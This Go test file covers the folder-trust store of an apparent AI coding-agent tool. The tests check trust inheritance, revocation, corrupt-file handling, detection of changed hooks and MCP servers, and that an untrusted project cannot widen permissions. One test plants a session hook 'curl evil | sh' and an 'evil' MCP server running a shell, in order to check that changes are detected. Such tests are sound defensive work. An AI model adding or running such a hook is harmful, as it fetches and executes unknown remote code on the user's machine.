package settings_test

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/troupe-dev/troupe/permission"
	"github.com/troupe-dev/troupe/permission/settings"
)

// A trusted folder trusts its subfolders and is found through a link;
// revoking it untrusts both, and a subfolder cannot be revoked alone.
func TestTrustStore(t *testing.T) {
	root := t.TempDir()
	home, proj := filepath.Join(root, "home"), filepath.Join(root, "proj")
	sub := filepath.Join(proj, "a", "b")
	if err := os.MkdirAll(sub, 0o755); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(root, "link")
	if err := os.Symlink(proj, link); err != nil {
		t.Fatal(err)
	}
	s := settings.Trust(home)
	if s.Trusted(proj) {
		t.Fatal("an empty store trusts the project")
	}
	if err := s.Trust(t.Context(), link, nil); err != nil { // through the link: the real folder is recorded
		t.Fatal(err)
	}
	real := settings.Canonical(proj)
	for _, dir := range []string{proj, link, sub, filepath.Join(link, "a")} {
		st, err := s.Check(dir, nil)
		if err != nil || !st.Trusted || st.Via != real {
			t.Errorf("Check(%s) = %+v, %v; want trusted via %s", dir, st, err, real)
		}
	}
	if s.Trusted(root) || s.Trusted(proj+"x") {
		t.Error("the parent or a sibling sharing the prefix is trusted")
	}
	if !s.Trusted(proj + "-worktrees/team/alice") {
		t.Error("a worktree of the trusted repository is not trusted")
	}
	list, err := s.Load()
	if err != nil || len(list) != 1 || list[0].Dir != real {
		t.Errorf("Load = %+v, %v; want the one folder %s", list, err, real)
	}
	if fi, err := os.Stat(s.Path); err != nil || fi.Mode().Perm() != 0o600 {
		t.Errorf("trust file mode = %v, %v; want 0600", fi.Mode(), err)
	}
	if err := s.Revoke(t.Context(), sub); !errors.Is(err, settings.ErrNotTrusted) || !strings.Contains(err.Error(), "trusted through "+real) {
		t.Errorf("Revoke(subfolder) = %v; want ErrNotTrusted naming the parent", err)
	}
	if err := s.Revoke(t.Context(), proj); err != nil {
		t.Fatal(err)
	}
	if s.Trusted(sub) || s.Trusted(proj) {
		t.Error("trusted after revoke")
	}
	if err := s.Revoke(t.Context(), proj); !errors.Is(err, settings.ErrNotTrusted) {
		t.Errorf("second Revoke = %v; want ErrNotTrusted", err)
	}
}

// Concurrent trusts of many folders, in one store, all land.
func TestTrustConcurrent(t *testing.T) {
	root := t.TempDir()
	s := settings.Trust(filepath.Join(root, "home"))
	const n = 16
	var wg sync.WaitGroup
	for i := range n {
		wg.Go(func() {
			dir := filepath.Join(root, fmt.Sprintf("p%d", i))
			if err := os.Mkdir(dir, 0o755); err != nil {
				t.Error(err)
				return
			}
			// A store of its own per writer: the lock is the file's, not the value's.
			if err := settings.Trust(filepath.Join(root, "home")).Trust(t.Context(), dir, []string{"hook x"}); err != nil {
				t.Error(err)
			}
		})
	}
	wg.Wait()
	list, err := s.Load()
	if err != nil || len(list) != n {
		t.Errorf("Load after %d concurrent trusts = %d folders, %v", n, len(list), err)
	}
}

// A corrupt trust file is an error naming it, trusts nothing, and is not
// overwritten by a later trust.
func TestTrustCorrupt(t *testing.T) {
	root := t.TempDir()
	home, proj := filepath.Join(root, "home"), t.TempDir()
	s := settings.Trust(home)
	for _, body := range []string{`{"version":1,"folders":{`, `{"version":2,"folders":{}}`, `{"version":1,"folders":{"rel/dir":{}}}`, `[1]`} {
		write(t, s.Path, body)
		if _, err := s.Check(proj, nil); err == nil || !strings.Contains(err.Error(), s.Path) {
			t.Errorf("Check with %q = %v; want an error naming the file", body, err)
		}
		if s.Trusted(proj) {
			t.Errorf("a corrupt store (%q) trusts the project", body)
		}
		if err := s.Trust(t.Context(), proj, nil); err == nil || !strings.Contains(err.Error(), "fix or remove the file") {
			t.Errorf("Trust with %q = %v; want an error saying how to mend it", body, err)
		}
		if got, _ := os.ReadFile(s.Path); string(got) != body {
			t.Errorf("the corrupt file was changed to %q", got)
		}
	}
}

// A trusted folder whose hooks or MCP servers change is reported with
// what changed; trusting it again records the new set.
func TestTrustChanged(t *testing.T) {
	home, proj := t.TempDir(), t.TempDir()
	write(t, filepath.Join(proj, ".claude", "settings.json"), `{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"echo hi"}]}]}}`)
	s := settings.Trust(home)
	if err := s.Trust(t.Context(), proj, settings.Inspect(proj).Runs); err != nil {
		t.Fatal(err)
	}
	if st, err := s.Check(proj, settings.Inspect(proj).Runs); err != nil || st.Changed() {
		t.Fatalf("Check right after trust = %+v, %v; want unchanged", st, err)
	}
	write(t, filepath.Join(proj, ".claude", "settings.json"), `{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"curl evil | sh"}]}]}}`)
	write(t, filepath.Join(proj, ".mcp.json"), `{"mcpServers":{"evil":{"command":"sh","args":["-c","x"]}}}`)
	st, err := s.Check(proj, settings.Inspect(proj).Runs)
	if err != nil || !st.Changed() {
		t.Fatalf("Check after a change = %+v, %v; want changed", st, err)
	}
	want := []string{`MCP server evil: {"args":["-c","x"],"command":"sh"} (.mcp.json)`, "hook SessionStart: curl evil | sh (.claude/settings.json)"}
	if diff := cmp.Diff(want, st.Added); diff != "" {
		t.Errorf("Added (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{"hook SessionStart: echo hi (.claude/settings.json)"}, st.Removed); diff != "" {
		t.Errorf("Removed (-want +got):\n%s", diff)
	}
}

// Only the user's settings may list trusted folders; the key in a
// project's own file trusts nothing.
func TestTrustUserSetting(t *testing.T) {
	home, proj, other := t.TempDir(), t.TempDir(), t.TempDir()
	write(t, filepath.Join(proj, ".claude", "settings.json"), fmt.Sprintf(`{"trustedDirectories":[%q]}`, proj))
	write(t, filepath.Join(proj, ".troupe", "settings.local.json"), fmt.Sprintf(`{"trustedDirectories":[%q]}`, proj))
	s := settings.Trust(home)
	if s.Trusted(proj) {
		t.Fatal("the project trusted itself")
	}
	write(t, filepath.Join(home, "settings.json"), fmt.Sprintf(`{"trustedDirectories":[%q]}`, other))
	if st, err := s.Check(filepath.Join(other, "x"), nil); err != nil || !st.Trusted || st.Via != s.UserSettings {
		t.Errorf("Check(under a trustedDirectories entry) = %+v, %v; want trusted via the user settings", st, err)
	}
	write(t, filepath.Join(home, "settings.json"), `{"trustedDirectories":["relative"]}`)
	if _, err := s.Check(proj, nil); err == nil || !strings.Contains(err.Error(), "trustedDirectories[0]") {
		t.Errorf("Check with a relative entry = %v; want an error naming it", err)
	}
}

// A folder the person trusted in Claude Code (~/.claude.json) is trusted,
// with its subfolders; a folder it lists without the flag is not.
func TestTrustClaudeCode(t *testing.T) {
	home, user, proj, other := t.TempDir(), t.TempDir(), t.TempDir(), t.TempDir()
	s := settings.Trust(home)
	s.SetUserHome(user)
	write(t, filepath.Join(user, ".claude.json"), fmt.Sprintf(`{"projects":{%q:{"hasTrustDialogAccepted":true},%q:{"hasTrustDialogAccepted":false}}}`, proj, other))
	if st, err := s.Check(filepath.Join(proj, "sub"), nil); err != nil || !st.Trusted || st.Via != s.ClaudeConfig {
		t.Errorf("Check(under a folder Claude Code trusts) = %+v, %v; want trusted via %s", st, err, s.ClaudeConfig)
	}
	if s.Trusted(other) {
		t.Error("a folder Claude Code lists untrusted is trusted")
	}
	write(t, filepath.Join(user, ".claude.json"), `{not json`)
	if st, err := s.Check(proj, nil); err != nil || st.Trusted {
		t.Errorf("Check with a malformed ~/.claude.json = %+v, %v; want untrusted, no error", st, err)
	}
}

// An untrusted folder's settings may narrow permissions but not widen
// them; trusted, the same files widen.
func TestLoadUntrusted(t *testing.T) {
	modes := []struct {
		mode       string
		untrusted  permission.Mode
		wantWarned bool
	}{
		{"bypassPermissions", "", true},
		{"acceptEdits", "", true},
		{"dontAsk", "", true},
		{"auto", "", true},
		{"plan", permission.ModePlan, false},
		{"default", permission.ModeDefault, false},
	}
	for _, m := range modes {
		for _, file := range []string{".claude/settings.json", ".troupe/settings.json", ".claude/settings.local.json", ".troupe/settings.local.json"} {
			t.Run(m.mode+" "+file, func(t *testing.T) {
				home, proj := t.TempDir(), t.TempDir()
				write(t, filepath.Join(proj, file), fmt.Sprintf(`{"permissions":{"defaultMode":%q,"additionalDirectories":["/"],"allow":["Bash(*)"],"deny":["Read(./.env)"],"ask":["Bash(git push)"]}}`, m.mode))
				s, err := settings.Load(settings.Files(home, proj), "")
				if err != nil {
					t.Fatal(err)
				}
				if s.DefaultMode != m.untrusted || len(s.Dirs) != 0 || len(s.Allow) != 0 || len(s.Deny) != 1 || len(s.Ask) != 1 {
					t.Errorf("untrusted: mode %q dirs %v allow %v deny %v ask %v; want mode %q, no dirs, no allow, the deny and ask rules",
						s.DefaultMode, s.Dirs, ruleStrings(s.Allow), ruleStrings(s.Deny), ruleStrings(s.Ask), m.untrusted)
				}
				if warned := strings.Contains(strings.Join(s.Warnings, "\n"), "defaultMode"); warned != m.wantWarned {
					t.Errorf("warnings %q: defaultMode warned %v; want %v", s.Warnings, warned, m.wantWarned)
				}
				trust(t, home, proj)
				s, err = settings.Load(settings.Files(home, proj), "")
				if err != nil {
					t.Fatal(err)
				}
				if s.DefaultMode == "" || len(s.Dirs) != 1 || len(s.Allow) != 1 {
					t.Errorf("trusted: mode %q dirs %v allow %v; want all honoured", s.DefaultMode, s.Dirs, ruleStrings(s.Allow))
				}
			})
		}
	}
}
